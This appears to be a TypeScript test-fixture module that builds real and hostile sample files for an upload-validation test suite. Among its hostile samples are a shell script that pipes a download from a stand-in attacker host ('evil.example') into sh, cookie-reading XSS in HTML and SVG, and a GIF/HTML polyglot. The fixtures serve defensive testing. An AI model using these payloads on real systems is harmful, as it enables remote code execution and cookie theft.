import { crc32, deflateRawSync } from 'node:zlib';

/**
 * Test files built in memory: real magic numbers and structures (PNG, JPEG, OLE2, zip…) and
 * hostile ones (executables, scripts, HTML, SVG, polyglots) for the upload battery (QUALITY B9).
 */
export const png = () =>
  Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
    'base64',
  );
export const jpg = () =>
  Buffer.concat([
    Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]),
    Buffer.from('JFIF\0\x01\x01\0\0\x01\0\x01\0\0', 'latin1'),
    Buffer.from([0xff, 0xd9]),
  ]);
export const gif = () => Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00;', 'latin1');
export const pdf = () => Buffer.from('%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n');
export const rar = () => Buffer.concat([Buffer.from('Rar!\x1a\x07\x01\x00', 'latin1'), Buffer.alloc(32)]);

/** Windows executable (MZ header and DOS stub text). */
export const exe = () =>
  Buffer.concat([
    Buffer.from('MZ\x90\x00\x03\x00', 'latin1'),
    Buffer.alloc(58),
    Buffer.from('This program cannot be run in DOS mode.'),
  ]);
export const shellScript = () => Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
export const html = () =>
  Buffer.from('<!doctype html><html><body><script>alert(document.cookie)</script></body></html>');
export const svgWithScript = () =>
  Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>');
/** Valid GIF header, and HTML a sniffing browser would run. */
export const gifHtmlPolyglot = () =>
  Buffer.from(
    'GIF89a/*\x01\x00\x01\x00*/=0;<html><body><script>alert(document.domain)</script></body></html>',
    'latin1',
  );

/** Pads a file with zeros to an exact size (the sniffer reads only the head and structures). */
export const padTo = (b: Buffer, size: number) => Buffer.concat([b, Buffer.alloc(size - b.length)]);

export interface ZipEntry {
  name: string;
  data?: Buffer;
  /** Deflate the data (a bomb compresses very well). */
  deflate?: boolean;
}

/** A zip with a real central directory; entries are stored or deflated. */
export function zip(entries: ZipEntry[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const raw = e.data ?? Buffer.alloc(0);
    const body = e.deflate ? deflateRawSync(raw) : raw;
    const name = Buffer.from(e.name, 'utf8');
    const method = e.deflate ? 8 : 0;
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6);
    local.writeUInt16LE(method, 8);
    local.writeUInt32LE(crc32(raw), 14);
    local.writeUInt32LE(body.length, 18);
    local.writeUInt32LE(raw.length, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x0800, 8);
    central.writeUInt16LE(method, 10);
    central.writeUInt32LE(crc32(raw), 16);
    central.writeUInt32LE(body.length, 20);
    central.writeUInt32LE(raw.length, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, body);
    centrals.push(central, name);
    offset += 30 + name.length + body.length;
  }
  const cd = Buffer.concat(centrals);
  const eocd = Buffer.alloc(22);
  eocd.writeUInt32LE(0x06054b50, 0);
  eocd.writeUInt16LE(entries.length, 8);
  eocd.writeUInt16LE(entries.length, 10);
  eocd.writeUInt32LE(cd.length, 12);
  eocd.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, eocd]);
}

export const docx = () =>
  zip([
    { name: '[Content_Types].xml', data: Buffer.from('<?xml version="1.0"?><Types/>') },
    { name: 'word/document.xml', data: Buffer.from('<?xml version="1.0"?><w:document/>'), deflate: true },
  ]);

/** A minimal OLE2 compound file (512-byte sectors: FAT in sector 0, directory in sector 1). */
export function ole2(streamNames: string[]): Buffer {
  const header = Buffer.alloc(512);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(header, 0);
  header.writeUInt16LE(0x3e, 0x18);
  header.writeUInt16LE(3, 0x1a);
  header.writeUInt16LE(0xfffe, 0x1c);
  header.writeUInt16LE(9, 0x1e);
  header.writeUInt16LE(6, 0x20);
  header.writeUInt32LE(1, 0x2c);
  header.writeUInt32LE(1, 0x30);
  header.writeUInt32LE(4096, 0x38);
  header.writeUInt32LE(0xfffffffe, 0x3c);
  header.writeUInt32LE(0xfffffffe, 0x44);
  for (let i = 0; i < 109; i++) header.writeUInt32LE(i === 0 ? 0 : 0xffffffff, 0x4c + i * 4);
  const fat = Buffer.alloc(512, 0xff);
  fat.writeUInt32LE(0xfffffffd, 0);
  fat.writeUInt32LE(0xfffffffe, 4);
  const dir = Buffer.alloc(512);
  const names: [string, number][] = [['Root Entry', 5], ...streamNames.map((n): [string, number] => [n, 2])];
  names.slice(0, 4).forEach(([n, type], i) => {
    const e = i * 128;
    dir.write(n, e, 'utf16le');
    dir.writeUInt16LE((n.length + 1) * 2, e + 0x40);
    dir[e + 0x42] = type;
  });
  return Buffer.concat([header, fat, dir]);
}
export const doc = () => ole2(['WordDocument', '1Table']);
